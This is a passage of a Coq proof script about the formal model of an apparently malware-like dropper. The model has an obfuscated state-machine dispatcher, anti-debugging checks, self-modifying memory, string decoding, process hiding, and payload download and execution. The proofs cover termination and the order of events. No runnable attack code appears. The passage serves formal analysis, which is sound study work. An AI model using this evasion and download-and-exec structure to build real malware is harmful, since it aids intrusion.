Proof. intros o s H. eexists _, _. split; [reflexivity|]. by split. Qed.
Lemma returns_sys_close (fd : Z) : returns (sys_close fd).
Proof. apply (returns_query (fun _ _ => tt)). Qed.

Lemma returns_ds (off len : Z) :
  0 <= off -> 0 <= len -> off + len <= 174 -> returns (_ds off len).
Proof.
  intros Ho Hl Hb o s H.
  destruct (ds_spec o s off len H Ho Hl Hb) as (buf & _ & E).
  eexists _, _. split; [exact E|].
  pose proof (WF_after_recover s H) as H1.
  unfold after_ds, after_recover in *. split; [exact H1|].
  destruct (_key_ready s =? 0); by split.
Qed.

Lemma returns_ds_at (e : Z * Z) : In e string_table -> returns (_ds_at e).
Proof.
  intros He. unfold _ds_at.
  repeat (destruct He as [<-|He]; [apply returns_ds; simpl; lia|]).
  destruct He.
Qed.

Lemma halts_exit {A : Type} (code : Z) : halts (@_exit A code).
Proof.
  intros o s H. exists (ChildExit code), s.
  split; [reflexivity|]. split; [discriminate|by apply frame_refl].
Qed.

(** A failed [exec] is followed by [_exit]. *)
Lemma halts_exec_exit {A : Type} (file : list Z) (argv : list (list Z)) (code : Z) :
  halts (exec file argv ;;; @_exit A code).
Proof.
  intros o s H. unfold bind, exec.
  destruct (os_exec o (c_str file) (c_str <$> argv)).
  - eexists _, s. split; [reflexivity|]. split; [discriminate|by apply frame_refl].
  - exact (halts_exit code o s H).
Qed.

(** [pid = fork(); if (pid == 0) { child } parent] *)
Lemma returns_or_child_fork {A : Type} (child : M A) (par : Z -> M A) :
  halts child -> (forall pid, returns (par pid)) ->
  returns_or_child (pid <- fork ;; if pid =? 0 then child else par pid).
Proof.
  intros Hc Hp o s H. unfold bind, fork.
  set (s1 := mk_pstate _ _ _ _ _ _ _ _ _ _).
  assert (frame s s1) as F1 by (by split).
  destruct (Z.eqb_spec (os_fork o (n_fork s)) 0) as [E|E].
  - right. destruct (Hc o s1 (frame_WF _ _ F1)) as (h & s2 & E2 & Hh & F2).
    exists h, s2. split; [exact E2|]. split; [exact Hh|].
    split; [exact (frame_trans _ _ _ F1 F2)|]. intros P. by apply (P (n_fork s)).
  - left. destruct (Hp (os_fork o (n_fork s)) o s1 (frame_WF _ _ F1)) as (r & s2 & E2 & F2).
    exists r, s2. split; [exact E2|exact (frame_trans _ _ _ F1 F2)].
Qed.

Create HintDb returns discriminated.
#[export] Hint Resolve returns_ret returns_getpid returns_ptrace returns_fopen
  returns_sys_open returns_mprotect returns_uname returns_stat returns_waitpid
  returns_sm_check returns_gettimeofday returns_fork returns_set_sm_flag
  returns_sys_write returns_sys_close : returns.

Ltac returns_step :=
  match goal with
  | |- returns (bind _ _) => apply returns_bind; [|intros ?]
  | |- returns (_ds_at _) => apply returns_ds_at; simpl; tauto
  | |- returns (match ?x with _ => _ end) => destruct x
  | |- returns (if ?x then _ else _) => destruct x
  | |- returns _ => solve [auto with returns]
  end.

Lemma returns_ad_ptrace : returns _ad_ptrace.
Proof. unfold _ad_ptrace. repeat returns_step. Qed.

Lemma returns_ad_timing : returns _ad_timing.
Proof. unfold _ad_timing. repeat returns_step. Qed.

Lemma returns_ad_proc : returns _ad_proc.
Proof. unfold _ad_proc. repeat returns_step. Qed.

Lemma returns_hide_proc : returns _hide_proc.
Proof. unfold _hide_proc. cbv zeta. repeat returns_step. Qed.

Lemma returns_self_modify : returns _self_modify.
Proof. unfold _self_modify. repeat returns_step. Qed.

Lemma returns_check_os : returns _check_os.
Proof. unfold _check_os. repeat returns_step. Qed.

Lemma returns_check_marker : returns _check_marker.
Proof. unfold _check_marker. repeat returns_step. Qed.

Lemma returns_or_child_download : returns_or_child _download.
Proof.
  unfold _download.
  do 5 (apply returns_or_child_bind; [apply returns_ds_at; simpl; tauto|intros ?]).
  repeat match goal with
  | |- returns_or_child (match ?x with _ => _ end) => destruct x
  end; try (apply returns_is_returns_or_child, returns_ret).
  apply returns_or_child_fork.
  - apply halts_bind; [apply returns_sys_open|intros _]. apply halts_exec_exit.
  - intros pid. repeat returns_step.
Qed.

Lemma returns_or_child_exec_payload : returns_or_child _exec_payload.
Proof.
  unfold _exec_payload.
  do 3 (apply returns_or_child_bind; [apply returns_ds_at; simpl; tauto|intros ?]).
  repeat match goal with
  | |- returns_or_child (match ?x with _ => _ end) => destruct x
  end; try (apply returns_is_returns_or_child, returns_ret).
  apply returns_or_child_fork.
  - apply halts_exec_exit.
  - intros pid. repeat returns_step.
Qed.

(** ** One pass of the dispatcher *)

Lemma opaque_true_1 (x : Z) : _opaque_true x = 1.
Proof.
  unfold _opaque_true.
  rewrite rem2_even, even_wrap_s32, Z.even_mul, even_wrap_s32, Z.even_add.
  by destruct (Z.even x).
Qed.

Lemma opaque_false_0 (x : Z) : _opaque_false x = 0.
Proof.
  unfold _opaque_false.
  rewrite rem2_even, even_wrap_s32, Z.even_add, even_wrap_s32, Z.even_add,
    even_wrap_s32, Z.even_mul.
  by destruct (Z.even x).
Qed.

Lemma pass_log (e : event) (o : oracle) (s : pstate) :
  WF s -> exists s', log e o s = Ret tt s' /\ pass s s' [e].
Proof. intros H. eexists. split; [reflexivity|]. by split. Qed.

Lemma pass_frame (s s1 s2 : pstate) (evs : list event) :
  pass s s1 evs -> frame s1 s2 -> pass s s2 evs.
Proof.
  intros (_ & T1 & F1) (W2 & T2 & F2). split; [done|]. split; [congruence|auto].
Qed.

Lemma pass_app (s s1 s2 : pstate) (evs evs' : list event) :
  pass s s1 evs -> pass s1 s2 evs' -> pass s s2 (evs ++ evs').
Proof.
  intros (_ & T1 & F1) (W2 & T2 & F2). split; [done|].
  split; [by rewrite T2, T1, app_assoc|auto].
Qed.

Lemma call_returns (f : fn) (body : M Z) (o : oracle) (s : pstate) :
  returns body -> WF s ->
  exists r s', call f body o s = Ret r s' /\ pass s s' [EvCall f; EvRet f r].
Proof.
  intros Hb H. unfold call, bind.
  destruct (pass_log (EvCall f) o s H) as (s1 & -> & P1).
  destruct (Hb o s1 (proj1 P1)) as (r & s2 & -> & F2).
  destruct (pass_log (EvRet f r) o s2 (proj1 F2)) as (s3 & -> & P3).
  exists r, s3. split; [reflexivity|].
  apply (pass_app s s2 s3 [EvCall f] [EvRet f r]); [|exact P3].
  by eapply pass_frame.
Qed.

Lemma call_void_returns (f : fn) (body : M unit) (o : oracle) (s : pstate) :
  returns body -> WF s ->
  exists s', call_void f body o s = Ret tt s' /\ pass s s' [EvCall f; EvDone f].
Proof.
  intros Hb H. unfold call_void, bind.
  destruct (pass_log (EvCall f) o s H) as (s1 & -> & P1).
  destruct (Hb o s1 (proj1 P1)) as (r & s2 & -> & F2).
  destruct (pass_log (EvDone f) o s2 (proj1 F2)) as (s3 & -> & P3).
  exists s3. split; [reflexivity|].
  apply (pass_app s s2 s3 [EvCall f] [EvDone f]); [|exact P3].
  by eapply pass_frame.
Qed.

Lemma call_returns_or_child (f : fn) (body : M Z) (o : oracle) (s : pstate) :
  returns_or_child body -> WF s ->
  (exists r s', call f body o s = Ret r s' /\ pass s s' [EvCall f; EvRet f r])
  \/ (exists h s', call f body o s = Halt h s' /\ h <> Undefined
                   /\ pass s s' [EvCall f] /\ ~ parent o).
Proof.
  intros Hb H. unfold call, bind.
  destruct (pass_log (EvCall f) o s H) as (s1 & -> & P1).
  destruct (Hb o s1 (proj1 P1)) as [(r & s2 & -> & F2)|(h & s2 & -> & Hh & F2 & Hp)].
  - left. destruct (pass_log (EvRet f r) o s2 (proj1 F2)) as (s3 & -> & P3).
    exists r, s3. split; [reflexivity|].
    apply (pass_app s s2 s3 [EvCall f] [EvRet f r]); [|exact P3].
    by eapply pass_frame.
  - right. exists h, s2. split; [reflexivity|]. split; [exact Hh|].
    split; [by eapply pass_frame|exact Hp].
Qed.

Lemma dispatch_astep (st rv sen : Z) (o : oracle) (s : pstate) :
  WF s ->
  exists evs nx,
    astep rv st evs nx
    /\ refines o (one_pass st rv sen o s) nx
    /\ pass s (final_state (one_pass st rv sen o s)) evs.
Proof.
  intros H. unfold one_pass, bind.
  destruct (pass_log (EvState st) o s H) as (s0 & -> & P0).
  pose proof (proj1 P0) as H0.
  assert (forall evs s1, pass s0 s1 evs -> pass s s1 (EvState st :: evs)) as Hp.
  { intros evs s1 P1. apply (pass_app s s0 s1 [EvState st] evs P0 P1). }
  unfold dispatch.
  destruct (Z.eqb_spec st ST_INIT) as [->|N1].
  { rewrite opaque_true_1. eexists _, _. split; [apply as_init|].
    split; [by eexists|]. apply (pass_app s s0 s0 [_] [] P0). by split; [|rewrite app_nil_r]. }
  destruct (Z.eqb_spec st ST_ANTI_DEBUG_1) as [->|N2].
  { unfold bind. destruct (call_returns F_ad_ptrace _ o s0 returns_ad_ptrace H0)
      as (r & s1 & -> & P1).
    eexists _, _. split; [apply (as_ad1 rv r)|].
    destruct (r =? 0); (split; [by eexists|by apply Hp]). }
  destruct (Z.eqb_spec st ST_ANTI_DEBUG_2) as [->|N3].
  { unfold bind. destruct (call_returns F_ad_timing _ o s0 returns_ad_timing H0)
      as (r & s1 & -> & P1).
    eexists _, _. split; [apply (as_ad2 rv r)|].
    destruct (r =? 0); (split; [by eexists|by apply Hp]). }
  destruct (Z.eqb_spec st ST_ANTI_DEBUG_3) as [->|N4].
  { unfold bind. destruct (call_returns F_ad_proc _ o s0 returns_ad_proc H0)
      as (r & s1 & -> & P1).
    eexists _, _. split; [apply (as_ad3 rv r)|].
    destruct (r =? 0); (split; [by eexists|by apply Hp]). }
  destruct (Z.eqb_spec st ST_SELF_MODIFY) as [->|N5].
  { unfold bind. destruct (call_void_returns F_self_modify _ o s0 returns_self_modify H0)
      as (s1 & -> & P1).
    destruct (call_returns F_sm_check _ o s1 returns_sm_check (proj1 P1))
      as (r & s2 & -> & P2).
    eexists _, _. split; [apply (as_self_modify rv r)|].
    pose proof (pass_app _ _ _ _ _ P1 P2) as P12.
    destruct (r =? 0); (split; [by eexists|by apply Hp]). }
  destruct (Z.eqb_spec st ST_CHECK_OS) as [->|N6].
  { unfold bind. destruct (call_returns F_check_os _ o s0 returns_check_os H0)
      as (r & s1 & -> & P1).
    rewrite opaque_false_0.
    eexists _, _. split; [apply (as_check_os rv r)|].
    destruct (r =? 0); (split; [by eexists|by apply Hp]). }
  destruct (Z.eqb_spec st ST_CHECK_MARKER) as [->|N7].
  { unfold bind. destruct (call_returns F_check_marker _ o s0 returns_check_marker H0)
      as (r & s1 & -> & P1).
    eexists _, _. split; [apply (as_check_marker rv r)|].
    destruct (r =? 0); (split; [by eexists|by apply Hp]). }
  destruct (Z.eqb_spec st ST_HIDE_PROC) as [->|N8].
  { unfold bind. destruct (call_void_returns F_hide_proc _ o s0 returns_hide_proc H0)
      as (s1 & -> & P1).
    eexists _, _. split; [apply as_hide_proc|].
    split; [by eexists|by apply Hp]. }
  destruct (Z.eqb_spec st ST_DOWNLOAD) as [->|N9].
  { unfold bind.
    destruct (call_returns_or_child F_download _ o s0 returns_or_child_download H0)
      as [(r & s1 & -> & P1)|(h & s1 & -> & Hh & P1 & Hc)].
    - eexists _, _. split; [apply (as_download rv r)|].
      destruct (r =? 0); (split; [by eexists|by apply Hp]).
    - eexists _, _. split; [apply (as_download_child rv h Hh)|].
      split; [split; [by eexists|exact Hc]|by apply Hp]. }
  destruct (Z.eqb_spec st ST_EXEC) as [->|N10].
  { unfold bind.
    destruct (call_returns_or_child F_exec_payload _ o s0 returns_or_child_exec_payload H0)
      as [(r & s1 & -> & P1)|(h & s1 & -> & Hh & P1 & Hc)].
    - eexists _, _. split; [apply (as_exec rv r)|].
      split; [by eexists|by apply Hp].
    - eexists _, _. split; [apply (as_exec_child rv h Hh)|].
      split; [split; [by eexists|exact Hc]|by apply Hp]. }
  assert (pass s s0 [EvState st]) as P0' by exact P0.
  destruct (Z.eqb_spec st ST_EXIT_OK) as [->|N11].
  { eexists _, _. split; [apply as_exit_ok|]. split; [by eexists|exact P0']. }
  destruct (Z.eqb_spec st ST_EXIT_FAIL) as [->|N12].
  { eexists _, _. split; [apply as_exit_fail|]. split; [by eexists|exact P0']. }
  eexists _, _. split; [apply (as_default rv st)|].
  - unfold all_states. simpl. intuition congruence.
  - split; [by eexists|exact P0'].
Qed.

(** ** Runs of the dispatcher *)

Lemma rank_pos (st : Z) : (1 <= rank st)%nat.
Proof. unfold rank. repeat (destruct (st =? _); [lia|]). lia. Qed.

(** Every edge of the dispatcher leads strictly closer to the exit. *)
Lemma astep_rank (rv st : Z) (evs : list event) (st' rv' : Z) :
  astep rv st evs (AGoto st' rv') -> (rank st' < rank st)%nat.
Proof.
  inversion 1; subst; try (destruct (r =? 0)); vm_compute; lia.
Qed.

Lemma astep_halt_defined (rv st : Z) (evs : list event) (h : halt) :
  astep rv st evs (AHalt h) -> h <> Undefined.
Proof. by inversion 1. Qed.

Lemma main_loop_run (sen : Z) (o : oracle) (fuel : nat) :
  forall st rv s, WF s -> (rank st <= fuel)%nat ->
  exists r evs fin,
    main_loop fuel st rv sen o s = Some r
    /\ arun st rv evs fin
    /\ pass s (final_state r) evs
    /\ ends_as o r fin.
Proof.
  induction fuel as [|fuel IH]; intros st rv s H Hr.
  { pose proof (rank_pos st). lia. }
  destruct (dispatch_astep st rv sen o s H) as (evs & nx & Ha & Hx & Hp).
  cbn [main_loop]. destruct nx as [st' rv'|c|h]; cbn [refines] in Hx.
  - destruct Hx as (s' & E). rewrite E in Hp |- *. cbn [final_state] in Hp.
    pose proof (astep_rank _ _ _ _ _ Ha) as Hlt.
    destruct (IH st' rv' s' (proj1 Hp) ltac:(lia)) as (r & evs' & fin & Hm & Hrun & Hp' & He).
    exists r, (evs ++ evs'), fin. split; [exact Hm|].
    split; [by eapply arun_goto|]. split; [by eapply pass_app|exact He].
  - destruct Hx as (s' & E). rewrite E in Hp |- *.
    exists (Ret c s'), evs, (AReturn c). split; [reflexivity|].
    split; [by apply arun_return|]. split; [exact Hp|by exists s'].
  - destruct Hx as ((s' & E) & Hc). rewrite E in Hp |- *.
    exists (Halt h s'), evs, (AHalt h). split; [reflexivity|].
    split; [by apply arun_halt|]. split; [exact Hp|].
    split; [by exists s'|]. split; [by eapply astep_halt_defined|exact Hc].
Qed.

(** Twelve passes are enough for [main], and its trace is a chain of
    abstract passes from [ST_INIT]. *)
Lemma main_run (o : oracle) :
  exists r fin,
    main 12 o = Some r
    /\ arun ST_INIT 1 (trace (final_state r)) fin
    /\ ends_as o r fin.
Proof.
  destruct (main_loop_run (os_getpid o) o 12 ST_INIT 1 init_pstate)
    as (r & evs & fin & Hm & Hrun & Hp & He).
  - reflexivity.
  - vm_compute. lia.
  - exists r, fin. split; [exact Hm|]. split; [|exact He].
    destruct Hp as (_ & -> & _). exact Hrun.
Qed.

(** Case analysis on the next pass of an abstract run. *)
Ltac arun_inv :=
  match goal with
  | H : arun (if ?c then _ else _) _ _ _ |- _ => destruct c eqn:?
  | H : arun _ _ _ _ |- _ =>
      inversion H; subst; clear H;
      match goal with
      | H' : astep _ _ _ _ |- _ => inversion H'; subst; clear H'
      end
  end.

Ltac arun_paths := repeat arun_inv.


(** ** Properties of abstract runs *)

Ltac default_absurd :=
  match goal with
  | H : ~ In _ all_states |- _ => exfalso; apply H; simpl; tauto
  end.

Ltac eqb_facts :=
  repeat match goal with
  | H : (_ =? _) = true |- _ => apply Z.eqb_eq in H
  | H : (_ =? _) = false |- _ => apply Z.eqb_neq in H
  end.

(** All the paths of an abstract run, one goal each. *)
Ltac arun_cases :=
  repeat arun_inv; try default_absurd; eqb_facts; subst; simpl in *.

(** Membership of an event in an explicit trace. *)
Ltac in_trace :=
  repeat match goal with
  | H : _ \/ _ |- _ => destruct H as [H|H]
  | H : False |- _ => destruct H
  | H : @eq event _ _ |- _ =>
      first [discriminate H | injection H; intros; subst; try clear H | clear H]
  | H : @eq fn _ _ |- _ => first [discriminate H | clear H]
  | H : @eq Z _ _ |- _ => first [discriminate H | subst]
  end.

Lemma arun_guard_detection (tr : list event) (fin : anext) (f : fn) (x : Z) :
  arun ST_INIT 1 tr fin ->
  In f [F_ad_ptrace; F_ad_timing; F_ad_proc] ->
  In (EvRet f x) tr -> x <> 0 ->
  fin = AReturn 1
  /\ In (EvState ST_EXIT_FAIL) tr
  /\ ~ In (EvCall F_download) tr
  /\ ~ In (EvCall F_exec_payload) tr.
Proof.
  intros H Hf Hin Hx. arun_cases; in_trace; try congruence.
  all: repeat split; try tauto; intros Hc; in_trace.
Qed.

Lemma arun_marker_present (tr : list event) (fin : anext) (x : Z) :
  arun ST_INIT 1 tr fin ->
  In (EvRet F_check_marker x) tr -> x <> 0 ->
  fin = AReturn 1
  /\ In (EvState ST_EXIT_FAIL) tr
  /\ In (EvRet F_ad_ptrace 0) tr /\ In (EvRet F_ad_timing 0) tr
  /\ In (EvRet F_ad_proc 0) tr
  /\ ~ In (EvCall F_download) tr
  /\ ~ In (EvCall F_exec_payload) tr.
Proof.
  intros H Hin Hx. arun_cases; in_trace; try congruence.
  all: repeat split; try tauto; intros Hc; in_trace.
Qed.

Lemma arun_fetch (tr : list event) (fin : anext) :
  arun ST_INIT 1 tr fin -> (forall h, fin <> AHalt h) ->
  In (EvState ST_DOWNLOAD) tr ->
  (exists x, In (EvRet F_download x) tr)
  /\ forall x, In (EvRet F_download x) tr ->
       (x <> 0 ->
          fin = AReturn 1 /\ In (EvState ST_EXIT_FAIL) tr
          /\ ~ In (EvCall F_exec_payload) tr)
       /\ (x = 0 ->
          In (EvState ST_EXIT_OK) tr /\ ~ In (EvState ST_EXIT_FAIL) tr
          /\ exists y, In (EvRet F_exec_payload y) tr
               /\ forall y', In (EvRet F_exec_payload y') tr ->
                    fin = AReturn (if y' =? 0 then 0 else 1)).
Proof.
  intros H Hh Hin. arun_cases; in_trace; try (by (exfalso; eapply Hh)).
  all: (split; [eexists; tauto|]); intros x Hx; in_trace.
  all: split; intros Hx0; try congruence.
  all: repeat split; try tauto; try (intros Hc; in_trace).
  all: try (eexists; split; [tauto|]; intros y' Hy'; in_trace; try reflexivity).
  all: try (destruct (Z.eqb_spec y' 0); [congruence|reflexivity]).
Qed.

(** ** Order of the states; the flag and the key *)

Lemma astep_visited (rv st : Z) (evs : list event) (nx : anext) :
  astep rv st evs nx -> visited evs = [st].
Proof. by inversion 1. Qed.

Lemma visited_app (tr tr' : list event) :
  visited (tr ++ tr') = visited tr ++ visited tr'.
Proof. apply omap_app. Qed.

(** The states of a run come in strictly decreasing rank. *)
Lemma arun_visited (st rv : Z) (tr : list event) (fin : anext) :
  arun st rv tr fin ->
  exists rest, visited tr = st :: rest
    /\ Forall (fun x => (rank x < rank st)%nat) rest
    /\ NoDup (st :: rest)
    /\ (length (st :: rest) <= rank st)%nat.
Proof.
  induction 1 as [st rv evs c Ha|st rv evs h Ha|st rv evs st' rv' evs' fin Ha Hrun IH].
  - exists []. rewrite (astep_visited _ _ _ _ Ha).
    split; [done|]. split; [constructor|]. split; [apply NoDup_singleton|].
    pose proof (rank_pos st). simpl. lia.
  - exists []. rewrite (astep_visited _ _ _ _ Ha).
    split; [done|]. split; [constructor|]. split; [apply NoDup_singleton|].
    pose proof (rank_pos st). simpl. lia.
  - destruct IH as (rest & Hv & Hlt & Hnd & Hlen).
    pose proof (astep_rank _ _ _ _ _ Ha) as Hr.
    exists (st' :: rest). rewrite visited_app, (astep_visited _ _ _ _ Ha), Hv.
    split; [done|].
    assert (Forall (fun x => (rank x < rank st)%nat) (st' :: rest)) as Hall.
    { constructor; [exact Hr|]. eapply Forall_impl; [exact Hlt|]. simpl. lia. }
    split; [exact Hall|]. split.
    + constructor; [|exact Hnd]. intros Hin.
      rewrite Forall_forall in Hall. specialize (Hall st Hin). lia.
    + simpl in *. lia.
Qed.

Lemma arun_decoys (tr : list event) (fin : anext) :
  arun ST_INIT 1 tr fin ->
  exists rest, visited tr = ST_INIT :: ST_ANTI_DEBUG_1 :: rest
    /\ ~ In ST_INIT rest /\ incl (visited tr) all_states.
Proof.
  intros H. repeat arun_inv; try default_absurd.
  all: cbn [visited omap app list_omap]; eexists; (split; [reflexivity|]).
  all: split; [intros Hc; cbn [In] in Hc; in_trace|].
  all: intros x Hx; cbn [In] in Hx; unfold all_states; cbn [In]; tauto.
Qed.


Lemma self_modify_eq (o : oracle) (s : pstate) :
  _self_modify o s
  = Ret tt
      {| _rk := _rk s; _key_ready := _key_ready s;
         _sm_flag := (if os_mprotect o (n_mprotect s) PROT_RWX =? 0 then 1
                      else _sm_flag s);
         n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
         n_mprotect := (if os_mprotect o (n_mprotect s) PROT_RWX =? 0
                        then S (S (n_mprotect s)) else S (n_mprotect s));
         ds_null := ds_null s; written := written s; trace := trace s |}.
Proof.
  unfold _self_modify, bind, mprotect, set_sm_flag, ret.
  change (Z.lor (Z.lor PROT_READ PROT_WRITE) PROT_EXEC) with PROT_RWX.
  by destruct (os_mprotect o (n_mprotect s) PROT_RWX =? 0).
Qed.



Lemma recover_key_ready (o : oracle) (s : pstate) :
  _key_ready s <> 0 -> _recover_key o s = Ret tt s.
Proof.
  intros H. unfold _recover_key, bind, get_key_ready.
  destruct (Z.eqb_spec (_key_ready s) 0); [done|reflexivity].
Qed.

Lemma recover_key_times_eq (o : oracle) (n : nat) (s : pstate) :
  WF s -> (1 <= n)%nat -> recover_key_times n o s = _recover_key o s.
Proof.
  intros H Hn. destruct n as [|n]; [lia|]. clear Hn. revert s H.
  assert (forall s, WF s -> _recover_key o (after_recover s) = Ret tt (after_recover s)) as Hag.
  { intros s H. rewrite (recover_key_eq _ _ (WF_after_recover s H)).
    f_equal. unfold after_recover. destruct (_key_ready s =? 0) eqn:E; [done|by rewrite E]. }
  induction n as [|n IH]; intros s H.
  - cbn [recover_key_times]. unfold bind. by rewrite recover_key_eq.
  - change (recover_key_times (S (S n))) with (_recover_key ;;; recover_key_times (S n)).
    unfold bind at 1. rewrite (recover_key_eq o s H).
    rewrite (IH _ (WF_after_recover s H)). by apply Hag.
Qed.

(** ** Failed decodes *)

Lemma n_malloc_after_recover (s : pstate) : n_malloc (after_recover s) = n_malloc s.
Proof. unfold after_recover. by destruct (_key_ready s =? 0). Qed.

Lemma n_malloc_after_ds (o : oracle) (s : pstate) :
  n_malloc (after_ds o s) = S (n_malloc s).
Proof. unfold after_ds. cbn [n_malloc]. by rewrite n_malloc_after_recover. Qed.

Lemma WF_after_ds (o : oracle) (s : pstate) : WF s -> WF (after_ds o s).
Proof. intros H. exact (WF_after_recover s H). Qed.

(** [_ds] on an entry of the table: NULL exactly when [malloc] fails. *)
Lemma ds_at_spec (o : oracle) (s : pstate) (e : Z * Z) :
  WF s -> In e string_table ->
  exists buf, length buf = Z.to_nat (snd e + 1)
    /\ _ds_at e o s
       = Ret (if os_malloc o (n_malloc s) then Some buf else None) (after_ds o s).
Proof.
  intros H He. rewrite <- (n_malloc_after_recover s). unfold _ds_at.
  repeat (destruct He as [<-|He]; [apply ds_spec; [exact H|simpl; lia..]|]).
  destruct He.
Qed.

(** Rewrites the next [_ds_at] of the goal with [ds_at_spec]. *)
Ltac ds_next :=
  match goal with
  | |- context [_ds_at ?e ?o ?s] =>
      let buf := fresh "buf" in let E := fresh "E" in
      let W := fresh "W" in
      assert (WF s) as W by (repeat apply WF_after_ds; assumption);
      destruct (ds_at_spec o s e W ltac:(simpl; tauto)) as (buf & _ & E);
      rewrite E; clear E; cbv beta iota;
      rewrite ?n_malloc_after_ds
  end.

Lemma n_fork_after_ds (o : oracle) (s : pstate) : n_fork (after_ds o s) = n_fork s.
Proof. unfold after_ds, after_recover. cbn [n_fork]. by destruct (_key_ready s =? 0). Qed.

Lemma trace_after_ds (o : oracle) (s : pstate) : trace (after_ds o s) = trace s.
Proof. unfold after_ds, after_recover. cbn [trace]. by destruct (_key_ready s =? 0). Qed.

Lemma written_after_ds (o : oracle) (s : pstate) : written (after_ds o s) = written s.
Proof. unfold after_ds, after_recover. cbn [written]. by destruct (_key_ready s =? 0). Qed.

Lemma undisturbed_refl (s : pstate) : undisturbed s s.
Proof. by repeat split. Qed.

Lemma undisturbed_trans (s1 s2 s3 : pstate) :
  undisturbed s1 s2 -> undisturbed s2 s3 -> undisturbed s1 s3.
Proof. intros (T1 & F1 & W1) (T2 & F2 & W2). repeat split; congruence. Qed.

Lemma undisturbed_after_ds (o : oracle) (s : pstate) : undisturbed s (after_ds o s).
Proof.
  split; [apply trace_after_ds|]. split; [apply n_fork_after_ds|apply written_after_ds].
Qed.

(** The state after a chain of [_ds] calls. *)
Ltac undisturbed_ds :=
  repeat match goal with
  | |- undisturbed ?s ?s => apply undisturbed_refl
  | |- undisturbed ?s (after_ds ?o ?x) =>
      apply (undisturbed_trans s x (after_ds o x)); [|apply undisturbed_after_ds]
  end.

Lemma check_os_null (o : oracle) (s : pstate) :
  WF s -> os_malloc o (n_malloc s) = false ->
  exists s', _check_os o s = Ret 0 s' /\ undisturbed s s'.
Proof.
  intros H Hm. unfold _check_os, bind, uname. cbn [fst snd].
  destruct (negb (os_uname o =? 0)).
  { exists s. split; [reflexivity|apply undisturbed_refl]. }
  ds_next. rewrite Hm. exists (after_ds o s). split; [reflexivity|undisturbed_ds].
Qed.

Lemma check_marker_null (o : oracle) (s : pstate) :
  WF s -> os_malloc o (n_malloc s) = false ->
  exists s', _check_marker o s = Ret 0 s' /\ undisturbed s s'.
Proof.
  intros H Hm. unfold _check_marker, bind. ds_next. rewrite Hm.
  exists (after_ds o s). split; [reflexivity|undisturbed_ds].
Qed.

Lemma hide_proc_null (o : oracle) (s : pstate) :
  WF s -> os_malloc o (n_malloc s) = false ->
  exists s', _hide_proc o s = Ret tt s' /\ undisturbed s s'.
Proof.
  intros H Hm. unfold _hide_proc, bind. ds_next. rewrite Hm.
  exists (after_ds o s). split; [reflexivity|undisturbed_ds].
Qed.

Lemma ad_proc_null (o : oracle) (s : pstate) :
  WF s -> allocs_ok o (n_malloc s) 2 = false ->
  exists s', _ad_proc o s = Ret 0 s' /\ undisturbed s s'.
Proof.
  intros H Hm. unfold _ad_proc, bind. do 2 ds_next.
  exists (after_ds o (after_ds o s)). split; [|undisturbed_ds].
  cbn [allocs_ok] in Hm.
  destruct (os_malloc o (n_malloc s)); [|reflexivity].
  destruct (os_malloc o (S (n_malloc s))); [discriminate Hm|reflexivity].
Qed.

Lemma download_null (o : oracle) (s : pstate) :
  WF s -> allocs_ok o (n_malloc s) 5 = false ->
  exists s', _download o s = Ret (-1) s' /\ undisturbed s s'.
Proof.
  intros H Hm. unfold _download. unfold bind at 1 2 3 4 5. do 5 ds_next.
  exists (after_ds o (after_ds o (after_ds o (after_ds o (after_ds o s))))).
  split; [|undisturbed_ds].
  cbn [allocs_ok] in Hm.
  destruct (os_malloc o (n_malloc s)); [|reflexivity].
  destruct (os_malloc o (S (n_malloc s))); [|reflexivity].
  destruct (os_malloc o (S (S (n_malloc s)))); [|reflexivity].
  destruct (os_malloc o (S (S (S (n_malloc s))))); [|reflexivity].
  destruct (os_malloc o (S (S (S (S (n_malloc s)))))); [discriminate Hm|reflexivity].
Qed.

Lemma exec_payload_null (o : oracle) (s : pstate) :
  WF s -> allocs_ok o (n_malloc s) 3 = false ->
  exists s', _exec_payload o s = Ret (-1) s' /\ undisturbed s s'.
Proof.
  intros H Hm. unfold _exec_payload. unfold bind at 1 2 3. do 3 ds_next.
  exists (after_ds o (after_ds o (after_ds o s))). split; [|undisturbed_ds].
  cbn [allocs_ok] in Hm.
  destruct (os_malloc o (n_malloc s)); [|reflexivity].
  destruct (os_malloc o (S (n_malloc s))); [|reflexivity].
  destruct (os_malloc o (S (S (n_malloc s)))); [discriminate Hm|reflexivity].
Qed.

(** A pass that calls [body], which returns [r] without recording an
    event, forking or writing, and goes on with [r]. *)
Lemma one_pass_call (st rv sen : Z) (f : fn) (body : M Z) (k : Z -> M next)
    (o : oracle) (s : pstate) (r : Z) :
  dispatch st rv sen = (x <- call f body ;; k x) ->
  (forall s0, WF s0 -> n_malloc s0 = n_malloc s ->
     exists s1, body o s0 = Ret r s1 /\ undisturbed s0 s1) ->
  WF s ->
  exists s', one_pass st rv sen o s = k r o s'
    /\ undisturbed {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
                      n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
                      n_mprotect := n_mprotect s; ds_null := ds_null s;
                      written := written s;
                      trace := trace s ++ [EvState st; EvCall f; EvRet f r] |} s'.
Proof.
  intros Hd Hb H. unfold one_pass. rewrite Hd. unfold call, bind, log, ret.
  match goal with |- context [body o ?s0] =>
    destruct (Hb s0 H eq_refl) as (s1 & -> & T & F & Wr) end.
  eexists. split; [reflexivity|]. cbn [trace n_fork written] in *.
  split; [|by split]. cbn [trace]. rewrite T, <- !app_assoc. reflexivity.
Qed.

Lemma main_loop_goto (fuel : nat) (st rv sen : Z) (o : oracle) (s s' : pstate)
    (st' rv' : Z) :
  one_pass st rv sen o s = Ret (Goto st' rv') s' ->
  main_loop (S fuel) st rv sen o s = main_loop fuel st' rv' sen o s'.
Proof. intros E. cbn [main_loop]. by rewrite E. Qed.

(** The pass that leaves the loop. *)
Lemma main_loop_exit (fuel : nat) (st rv sen : Z) (o : oracle) (s : pstate) :
  st = ST_EXIT_OK \/ st = ST_EXIT_FAIL ->
  exists s', main_loop (S fuel) st rv sen o s
             = Some (Ret (if st =? ST_EXIT_OK then rv else 1) s')
    /\ trace s' = trace s ++ [EvState st]
    /\ n_fork s' = n_fork s /\ written s' = written s.
Proof. intros [-> | ->]; (eexists; split; [reflexivity|by repeat split]). Qed.

(** A pass whose call got NULL from [_ds], and the pass that leaves the
    loop after it. *)
Lemma failed_pass_exits (st rv sen : Z) (f : fn) (r : Z) (st' : Z) (o : oracle)
    (s s1 : pstate) :
